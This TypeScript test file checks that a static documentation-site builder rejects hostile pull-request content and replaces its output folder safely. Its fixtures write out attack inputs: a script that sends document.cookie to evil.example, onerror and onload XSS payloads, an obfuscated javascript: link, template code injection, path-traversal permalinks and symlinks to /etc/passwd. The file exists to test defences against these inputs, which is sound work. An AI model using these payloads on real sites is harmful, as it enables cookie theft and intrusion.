// Content from a pull request, written by someone hostile (or unlucky): every case is a located
// error, nothing runs, nothing is read from outside the content folder, nothing is written
// outside the output folder, and a failed build leaves the previous site as it was.
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { spawn } from "node:child_process";
import { tmpdir } from "node:os";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { buildReport, engineCommand, projectRoot, runBuild, writeTree } from "../helpers/build.js";

/** A content folder made of `files` (path → text), in a fresh temporary folder. */
function site(files: Record<string, string>): string {
  const dir = mkdtempSync(path.join(tmpdir(), "hostile-"));
  return writeTree(path.join(dir, "content"), { "index.md": HOME, ...files });
}

const HOME = "---\ntitle: Home\n---\nWelcome.\n";
const page = (body: string, frontmatter = "") => `---\ntitle: A page\n${frontmatter}---\n${body}\n`;

const located = (lines: string[], content: string) =>
  lines.map((l) => l.replaceAll(path.relative(projectRoot, content), "content"));

describe("content that would run code at build time", () => {
  it("is refused before anything runs, at the file", async () => {
    const marker = path.join(tmpdir(), `hostile-ran-${process.pid}`);
    const run = `require("node:fs").writeFileSync(${JSON.stringify(marker)}, "ran")`;
    const content = site({
      "evil.njk": '{{ range.constructor("return process.pid")() }}',
      "_data/x.js": `${run}; module.exports = {};`,
      "guide/page.md": page("Text."),
      "guide/page.11tydata.cjs": `${run}; module.exports = {};`,
    });
    const { result, report } = await buildReport(content);
    expect(result.code).toBe(1);
    expect(
      located(
        report.problems.map((p) => `${p.file} ${p.kind}`),
        content,
      ),
    ).toEqual([
      "content/_data/x.js unsafe-content",
      "content/evil.njk unsafe-content",
      "content/guide/page.11tydata.cjs unsafe-content",
    ]);
    expect(report.problems[1]!.message).toBe(
      "templates in the content folder run code when the site is built",
    );
    expect(existsSync(marker)).toBe(false);
    expect(readdirSync(result.output)).toEqual([]);
  });

  it("runs when the site's config names it as trusted", async () => {
    const content = site({
      "maintained/list.njk": "---\ntitle: List\npermalink: /list/\n---\n{{ 6 * 7 }}-computed",
    });
    const config = path.join(path.dirname(content), "eleventy.config.mjs");
    writeFileSync(
      config,
      `import { docsPlugin } from ${JSON.stringify(path.join(projectRoot, "src/index.js"))};\n` +
        `export default (c) => { c.addPlugin(docsPlugin, { trustedContent: ["maintained"] }); };\n`,
    );
    const result = await runBuild(content, [`--config=${config}`]);
    expect(result.stderr).toBe("");
    expect(result.code).toBe(0);
    expect(result.html("/list/")).toContain("42-computed");
  });
});

describe("raw HTML in content", () => {
  it("keeps what guides use and refuses what runs, at its line", async () => {
    const content = site({
      "page.md": page(
        [
          "<details><summary>More</summary><abbr title='x'>X</abbr></details>", // line 4: kept
          "",
          "<script>fetch('https://evil.example/?' + document.cookie)</script>", // 6
          "",
          'Text <img src="x.png" alt="x" onerror="alert(1)"> and <a href="java&#x09;script:alert(1)">x</a>', // 8
          "",
          '<svg onload="alert(1)"></svg>', // 10
          "",
          '<iframe src="https://evil.example/"></iframe>', // 12
          "",
          '<iframe src="https://www.youtube-nocookie.com/embed/x" title="Video"></iframe>', // 14: allowed
          "",
          "<style>body { background: url(https://evil.example/track) }</style>", // 16
          "",
          '## Set up <img src="x.png" alt="" onerror="alert(1)">', // 18: in a heading too
        ].join("\n"),
      ),
      "_data/site.yml": "embedHosts: [www.youtube-nocookie.com]\n",
      "_data/timeline.yml":
        "- date: 2024-01-01\n  title: Start\n  description: <script>alert(1)</script>\n",
    });
    const { result, report } = await buildReport(content);
    expect(result.code).toBe(1);
    const unsafe = report.problems.filter((p) => p.kind === "unsafe-html");
    expect(
      located(
        unsafe.map((p) => `${p.file}:${p.line} ${p.message}`),
        content,
      ),
    ).toEqual([
      "content/_data/timeline.yml:1 raw HTML <script> is not allowed in content",
      "content/page.md:6 raw HTML <script> is not allowed in content",
      "content/page.md:8 the onerror attribute on <img> runs a script",
      "content/page.md:8 javascript: address in the href attribute of <a>",
      "content/page.md:10 the onload attribute on <svg> runs a script",
      "content/page.md:12 raw HTML <iframe> from evil.example is not allowed in content",
      "content/page.md:16 a <style> element in content loads something",
      "content/page.md:18 the onerror attribute on <img> runs a script",
    ]);
  });

  it("and active addresses in settings are refused", async () => {
    const content = site({
      "_data/site.yml":
        "navigation:\n  - text: Home\n    href: ' javascript:alert(1)'\nfooterLinks:\n  - text: Data\n    href: data:text/html,x\n",
    });
    const { report } = await buildReport(content);
    expect(report.problems.map((p) => `${p.line} ${p.message}`)).toEqual([
      expect.stringMatching(/^3 .*navigation.0.href.*must be a site path or an https:\/\/ address/),
      expect.stringMatching(
        /^6 .*footerLinks.0.href.*must be a site path or an https:\/\/ address/,
      ),
    ]);
  });

  it("is refused by every page's Content-Security-Policy too", async () => {
    const result = await runBuild(site({}));
    const csp = /<meta http-equiv="Content-Security-Policy" content="([^"]+)">/
      .exec(result.html("/"))?.[1]
      ?.replaceAll("&#39;", "'");
    expect(csp).toMatch(/script-src 'self' 'sha256-[^']+' 'wasm-unsafe-eval'/);
    expect(csp).toContain("object-src 'none'");
    expect(csp).toContain("frame-src 'none'");
  });
});

describe("paths", () => {
  it("a permalink cannot write outside the output folder or over another page", async () => {
    const escape = `hostile-escape-${process.pid}`;
    const content = site({
      "a.md": page("A.", `permalink: ../../../../../../../tmp/${escape}/index.html\n`),
      "b.md": page("B.", "permalink: /x/%2e%2e/about/\n"),
    });
    const { result, report } = await buildReport(content);
    expect(result.code).toBe(1);
    expect(
      located(
        report.problems.map((p) => `${p.file}:${p.line} ${p.kind}`),
        content,
      ),
    ).toEqual(["content/a.md:3 unsafe-permalink", "content/b.md:3 unsafe-permalink"]);
    expect(existsSync(path.join("/tmp", escape))).toBe(false);
    expect(readdirSync(result.output)).toEqual([]);
  });

  it("a symbolic link out of the content folder is refused before it is read", async () => {
    const content = site({});
    symlinkSync("/etc/passwd", path.join(content, "leak.md"));
    symlinkSync("/etc", path.join(content, "outside"));
    mkdirSync(path.join(content, "inside"));
    symlinkSync(path.join(content, "index.md"), path.join(content, "inside/home.md"));
    const { result, report } = await buildReport(content);
    expect(
      located(
        report.problems.map((p) => `${p.file} ${p.message}`),
        content,
      ),
    ).toEqual([
      "content/leak.md this is a symbolic link to /etc/passwd, outside the content folder",
      "content/outside this is a symbolic link to /etc, outside the content folder",
    ]);
    expect(readdirSync(result.output)).toEqual([]);
  });

  it("file names that differ only in case, or cannot be an address, are reported", async () => {
    const content = site({
      "Guide.md": page("One."),
      "guide.md": page("Two."),
      "a#b.md": page("C."),
    });
    const { report } = await buildReport(content);
    const names = report.problems.filter((p) => p.kind === "file-name");
    expect(
      located(
        names.map((p) => `${p.file} ${p.message}`),
        content,
      ).sort(),
    ).toEqual([
      "content/a#b.md the file name has #, ? or %, so the page's address could not be visited",
      expect.stringMatching(
        /^content\/(G|g)uide\.md this file and content\/(G|g)uide\.md differ only in capital letters/,
      ),
    ]);
  });
});

describe("mistakes that used to be silent or hide the rest", () => {
  it("are each reported at their line, together", async () => {
    const content = site({
      "dated.md": page("Text [x](nowhere.md).", "date: 2024-13-45\n"),
      "deep.md": page(`Start\n\n${"> ".repeat(120)}deep\n\nAfter`),
    });
    writeFileSync(
      path.join(content, "latin1.md"),
      Buffer.from("---\ntitle: Caf\xe9\n---\nText\n", "latin1"),
    );
    const { result, report } = await buildReport(content);
    expect(result.code).toBe(1);
    expect(
      located(
        report.problems.map((p) => `${p.file}:${p.line} ${p.kind} ${p.message}`),
        content,
      ),
    ).toEqual([
      'content/dated.md:3 frontmatter "date": "2024-13-45" is not a date',
      'content/dated.md:5 md-link link to "nowhere.md" does not match any page',
      "content/deep.md:6 nesting the Markdown here is nested more than 100 levels deep, so the rest of the page is left out",
      "content/latin1.md:2 mojibake the frontmatter has characters that are not UTF-8, shown as �",
    ]);
  });
});

/** `_site` in a folder of its own: other tests build beside their outputs in the temporary folder. */
function outputFolder(): { parent: string; output: string } {
  const parent = mkdtempSync(path.join(tmpdir(), "hostile-output-"));
  return { parent, output: path.join(parent, "_site") };
}

/**
 * A built site's folders and files. Pagefind names its files by hashes that can differ between
 * builds of the same pages, so its folder is described by how many files each part holds.
 */
function siteEntries(root: string): string[] {
  const entries = readdirSync(root, { recursive: true, withFileTypes: true }).map((entry) => {
    const relative = path.relative(root, path.join(entry.parentPath, entry.name));
    return entry.isDirectory() ? `${relative}/` : relative;
  });
  const search = entries.filter((entry) => entry.startsWith("pagefind/"));
  const parts = search.map((entry) => entry.split("/").slice(0, 2).join("/"));
  return [
    ...entries.filter((entry) => !entry.startsWith("pagefind/")).sort(),
    ...[...new Set(parts)]
      .sort()
      .map((part) => `${part}: ${parts.filter((p) => p === part).length}`),
  ];
}

/**
 * `npm run build` of `content` into `output`, stopped (SIGTERM) once `ready` holds; its exit code,
 * or the signal that ended it.
 */
async function stopBuild(
  content: string,
  output: string,
  ready: () => boolean,
  env: NodeJS.ProcessEnv = process.env,
): Promise<number | NodeJS.Signals | null> {
  const build = spawn(
    process.execPath,
    engineCommand("src/cli/build.ts", [`--input=${content}`, `--output=${output}`, "--quiet"]),
    { cwd: projectRoot, stdio: "ignore", env },
  );
  while (!ready()) await new Promise((resolve) => setTimeout(resolve, 10));
  build.kill("SIGTERM");
  return new Promise((resolve) => build.on("exit", (code, signal) => resolve(code ?? signal)));
}

/** The new site has a folder of its own beside the output. */
const building = (parent: string) => () =>
  readdirSync(parent).some((entry) => entry.startsWith("._site.building-"));

/** Enough pages that a build can be stopped well before it ends. */
// More pages than a build runs in its own process (src/cli/build.ts): Eleventy runs in a worker.
const numberedPages = (count: number) =>
  Object.fromEntries(Array.from({ length: count }, (_, i) => [`page-${i}.md`, page(`Text ${i}.`)]));
const MANY_PAGES = numberedPages(250);
const SOME_PAGES = numberedPages(50);

describe("the output folder", () => {
  it("is replaced whole: deleted pages go, a failed build leaves the last good site", async () => {
    const content = site({ "old.md": page("Old.") });
    const { parent, output } = outputFolder();
    mkdirSync(output);
    writeFileSync(path.join(output, "stale.html"), "from before");
    const first = await runBuild(content, [`--output=${output}`]);
    expect(first.code).toBe(0);
    expect(existsSync(path.join(output, "old/index.html"))).toBe(true);
    expect(existsSync(path.join(output, "stale.html"))).toBe(false);

    writeFileSync(path.join(content, "old.md"), page("<script>x</script>"));
    const failed = await runBuild(content, [`--output=${output}`]);
    expect(failed.code).toBe(1);
    expect(readFileSync(path.join(output, "old/index.html"), "utf8")).toContain("Old.");
    expect(readdirSync(parent)).toEqual(["_site"]); // no half-built folder or lock left
  });

  it("is written over the site before last, and holds only this build's files", async () => {
    const content = site({
      "moved.md": page("Moved."),
      "gone.md": page("Gone."),
      "kept.md": page("Kept."),
    });
    const { parent, output } = outputFolder();
    for (let build = 1; build <= 2; build++)
      expect((await runBuild(content, [`--output=${output}`])).code).toBe(0);
    const kept = path.join(parent, "._site.previous");
    expect(readdirSync(parent).sort()).toEqual(["._site.previous", "_site"]);

    // The third build writes over the first one's files: a page has moved (its old address
    // becomes a redirect page, not a clash with the old page), another is gone, and a link
    // where a page is written must not take the page outside the output.
    rmSync(path.join(content, "moved.md"));
    rmSync(path.join(content, "gone.md"));
    writeFileSync(path.join(content, "new.md"), page("New.", "old_paths:\n  - /moved/\n"));
    const outside = mkdtempSync(path.join(tmpdir(), "hostile-outside-"));
    rmSync(path.join(kept, "kept"), { recursive: true });
    symlinkSync(outside, path.join(kept, "kept"));
    const third = await runBuild(content, [`--output=${output}`]);
    expect(third.stderr).toBe("");
    expect(third.code).toBe(0);
    expect(readFileSync(path.join(output, "moved/index.html"), "utf8")).toContain(
      "This page has moved",
    );
    expect(readdirSync(outside)).toEqual([]);

    const fresh = await runBuild(content);
    expect(fresh.code).toBe(0);
    expect(siteEntries(output)).toEqual(siteEntries(fresh.output));
  });

  it("is built again into an empty folder when a file of the site before last is in the way", async () => {
    const content = site({ "thing.md": page("A thing.", "permalink: /thing.html\n") });
    const { output } = outputFolder();
    for (let build = 1; build <= 2; build++)
      expect((await runBuild(content, [`--output=${output}`])).code).toBe(0);
    // The page's file becomes a folder: the first build's thing.html stands in its way.
    writeFileSync(
      path.join(content, "thing.md"),
      page("A thing.", "permalink: /thing.html/index.html\n"),
    );
    const third = await runBuild(content, [`--output=${output}`]);
    expect(third.stderr).toBe("");
    expect(third.stdout).toContain("A file of the previous site was in the way");
    expect(third.code).toBe(0);
    expect(readFileSync(path.join(output, "thing.html/index.html"), "utf8")).toContain("A thing.");
  });

  it("is built again when a file is in the way while the site's own files are still copying", async () => {
    // Eleventy gives up on the failed first attempt without waiting for these copies, which
    // then fail into its removed folder: that must not end the command.
    const content = site({ "thing.md": page("A thing.", "permalink: /thing.html\n") });
    const bulk = writeTree(
      path.join(path.dirname(content), "bulk"),
      Object.fromEntries(Array.from({ length: 2000 }, (_, i) => [`f${i}.txt`, String(i)])),
    );
    const config = path.join(path.dirname(content), "eleventy.config.mjs");
    writeFileSync(
      config,
      `import { docsPlugin } from ${JSON.stringify(path.join(projectRoot, "src/index.js"))};\n` +
        `export default (c) => { c.addPlugin(docsPlugin); c.addPassthroughCopy({ ${JSON.stringify(bulk)}: "bulk" }); };\n`,
    );
    const { output } = outputFolder();
    const build = () => runBuild(content, [`--output=${output}`, `--config=${config}`]);
    for (let n = 1; n <= 2; n++) expect((await build()).code).toBe(0);
    writeFileSync(
      path.join(content, "thing.md"),
      page("A thing.", "permalink: /thing.html/index.html\n"),
    );
    const third = await build();
    expect(third.stderr).toBe("");
    expect(third.stdout).toContain("A file of the previous site was in the way");
    expect(third.code).toBe(0);
    expect(readdirSync(path.join(output, "bulk"))).toHaveLength(2000);
  }, 60_000);

  // A large site's worker is stopped with the command; a small site, built in the command's own
  // process, is built to its end. Either way the output is not replaced.
  for (const [where, pages] of [
    ["in a worker", MANY_PAGES],
    ["in the command's own process", SOME_PAGES],
  ] as const)
    it(`is left as it was when the build is stopped part way (${where})`, async () => {
      const content = site(pages);
      const { parent, output } = outputFolder();
      expect((await runBuild(content, [`--output=${output}`])).code).toBe(0);
      writeFileSync(path.join(content, "page-0.md"), page("Changed."));

      // Stopped once the new site has a folder, before its pages are built.
      const code = await stopBuild(content, output, building(parent));

      expect(code).not.toBe(0);
      // The half-built folder is kept for the next build to write over.
      expect(readdirSync(parent).sort()).toEqual(["._site.previous", "_site"]);
      expect(readFileSync(path.join(output, "page-0/index.html"), "utf8")).toContain("Text 0.");
    });

  it("is left as it was when the build is stopped while Pagefind indexes, and Pagefind stops too", async () => {
    const content = site(SOME_PAGES);
    const { parent, output } = outputFolder();
    expect((await runBuild(content, [`--output=${output}`])).code).toBe(0);
    const before = siteEntries(output);
    writeFileSync(path.join(content, "page-0.md"), page("Changed."));
    // A Pagefind that says it has started, then writes one file a second later.
    const dir = mkdtempSync(path.join(tmpdir(), "slow-pagefind-"));
    const started = path.join(dir, "started");
    const late = path.join(dir, "late");
    const program = path.join(dir, "pagefind");
    writeFileSync(
      program,
      `#!/bin/sh\ntouch "${started}"\nexec "${process.execPath}" -e "setTimeout(() => require('fs').writeFileSync('${late}', ''), 1000)"\n`,
      { mode: 0o755 },
    );

    const code = await stopBuild(content, output, () => existsSync(started), {
      ...process.env,
      PAGEFIND_BINARY_PATH: program,
    });
    await new Promise((resolve) => setTimeout(resolve, 2000));

    expect(code).toBe(1);
    expect(existsSync(late)).toBe(false);
    expect(readdirSync(parent).sort()).toEqual(["._site.previous", "_site"]);
    // The kept folder's index was being written: the next build writes it anew.
    expect(existsSync(path.join(parent, "._site.previous/pagefind/.unfinished"))).toBe(true);
    expect(siteEntries(output)).toEqual(before);
    expect(readFileSync(path.join(output, "page-0/index.html"), "utf8")).toContain("Text 0.");
    rmSync(dir, { recursive: true, force: true });
  });

  it("is written over a stopped build's folder by the next build, which then holds only its own files", async () => {
    const content = site(SOME_PAGES);
    const { parent, output } = outputFolder();
    expect((await runBuild(content, [`--output=${output}`])).code).toBe(0);
    writeFileSync(path.join(content, "extra.md"), page("Extra."));
    // In the command's own process the stopped build runs to its end and is kept, extra page too.
    expect(await stopBuild(content, output, building(parent))).toBe(1);
    expect(existsSync(path.join(parent, "._site.previous/extra/index.html"))).toBe(true);
    expect(existsSync(path.join(output, "extra"))).toBe(false);

    rmSync(path.join(content, "extra.md"));
    writeFileSync(path.join(content, "page-0.md"), page("Changed."));
    const next = await runBuild(content, [`--output=${output}`]);
    expect(next.code).toBe(0);
    expect(existsSync(path.join(output, "extra"))).toBe(false);
    expect(readFileSync(path.join(output, "page-0/index.html"), "utf8")).toContain("Changed.");
    const fresh = await runBuild(content);
    expect(siteEntries(output)).toEqual(siteEntries(fresh.output));
  });

  it("is left as it was, and the build says why, when the system kills the build", async () => {
    const content = site(MANY_PAGES);
    const { parent, output } = outputFolder();
    const building = runBuild(content, [`--output=${output}`]);
    // The process that runs Eleventy (as the kernel's out-of-memory killer would pick it).
    const worker = async (): Promise<number> => {
      for (;;) {
        for (const pid of readdirSync("/proc").filter((entry) => /^\d+$/.test(entry))) {
          try {
            const args = readFileSync(`/proc/${pid}/cmdline`, "utf8").split("\0");
            if (args.includes("--worker") && args.includes(`--input=${content}`))
              return Number(pid);
          } catch {
            // gone while being read
          }
        }
        await new Promise((resolve) => setTimeout(resolve, 10));
      }
    };
    process.kill(await worker(), "SIGKILL");
    const result = await building;
    expect(result.code).toBe(1);
    expect(result.stderr).toContain(
      "the build's process was stopped by SIGKILL, perhaps because the machine ran out of memory",
    );
    expect(readdirSync(parent)).toEqual([]);
  });

  it("is not written by two builds at once", async () => {
    const content = site({});
    const { parent, output } = outputFolder();
    writeFileSync(path.join(parent, "._site.lock"), String(process.pid));
    const result = await runBuild(content, [`--output=${output}`]);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain(
      `another build (process ${process.pid}) is writing ${output}; wait for it to finish, or stop it`,
    );
  });

  it("is never the content folder or the project", async () => {
    const content = site({});
    const result = await runBuild(content, [`--output=${path.dirname(content)}`]);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain("holds the content or the project; choose a folder of its own");
    expect(existsSync(path.join(content, "index.md"))).toBe(true);
  });
});
